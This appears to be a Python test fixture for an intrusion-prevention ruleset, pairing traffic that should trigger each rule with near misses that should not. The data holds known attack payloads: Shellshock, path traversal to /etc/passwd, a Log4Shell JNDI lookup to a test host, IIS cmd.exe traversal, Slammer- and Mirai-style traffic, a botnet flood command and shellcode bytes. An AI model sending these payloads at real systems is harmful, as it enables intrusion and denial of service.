# SPDX-License-Identifier: GPL-2.0-or-later
"""For every rule of the prevention, by the last digits of its number: drop.rules and replace.rules have the same.

Traffic that fires it, and traffic that is close to it and must not.
"""
from traffic import http, tcp, udp

INLINE = [(n, fires, steps) for n, fires, *steps in (
    (1, True, http("out", b"/cgi-bin/status", agent=b"() { :;}; /bin/id")),
    (1, False, http("in", b"/cgi-bin/status", agent=b"() { :;}; /bin/id")),
    (1, False, http("out", agent=b"Mozilla/5.0 (X11) {}")),
    (1, False, http("out", method=b"POST", body=b"function f() { return '../../a.%2e/'; }")),
    (2, True, http("out", b"/a/../../../../etc/passwd")),
    (2, False, http("out", b"/a/../b")),
    (3, True, http("out", b"/cgi-bin/.%2e/.%2E/etc/passwd")),
    (3, False, http("out", b"/cgi-bin/.%2f/")),
    (4, True, http("out", b"/", b"X-Api-Version: ${JNDI:ldap://198.18.0.1/a}")),
    (4, False, http("out", b"/", b"X-Api-Version: ${jdni:ldap}")),
    (5, True, http("out", b"/default.ida?" + b"N" * 224 + b"%u9090%u6858=a")),
    (5, False, http("out", b"/default.html?" + b"N" * 224)),
    (6, True, http("out", b"/scripts/../winnt/system32/cmd.exe?/c+dir")),
    (6, False, http("out", b"/downloads/cmd.exe")),
    (7, True, udp("out", 1434, b"\x04" + b"\x01" * 96 + b"\xdc\xc9\xb0\x42h.dllhel32hkernQhounthickChGet")),
    (7, False, udp("out", 1434, b"\x03" + b"\x01" * 96 + b"h.dllhel32hkernQhounthickChGet")),
    (7, False, udp("out", 1435, b"\x04h.dllhel32hkern")),
    (8, True, tcp("out", 23, b"<login: ", b">root\r\n", b">/bin/busybox ECCHI\r\n")),
    (8, False, tcp("out", 23, b"<login: ", b">root\r\n", b">/bin/busybox\r\n")),
    (9, True, tcp("out", 6667, b">NICK x\r\n", b"<:boss!b@h PRIVMSG #c :.udpflood 192.0.2.1 80\r\n")),
    (9, False, tcp("out", 6667, b">NICK x\r\n", b"<:boss!b@h PRIVMSG #c :a flood of mails\r\n")),
    (9, False, tcp("in", 6667, b">:boss!b@h PRIVMSG #c :.udpflood 192.0.2.1 80\r\n")),
    (10, True, tcp("out", 139, b">" + b"\xeb\x02" * 16 + b"\xcc")),
    (10, False, tcp("out", 139, b">" + b"\xeb\x02" * 2 + b"\xcc")),
)]


def cases(first):
    """As cases.CASES, for the rules whose numbers begin behind @first."""
    return [(first + n, fires, steps, {first + n} if fires else set(), None) for n, fires, steps in INLINE]
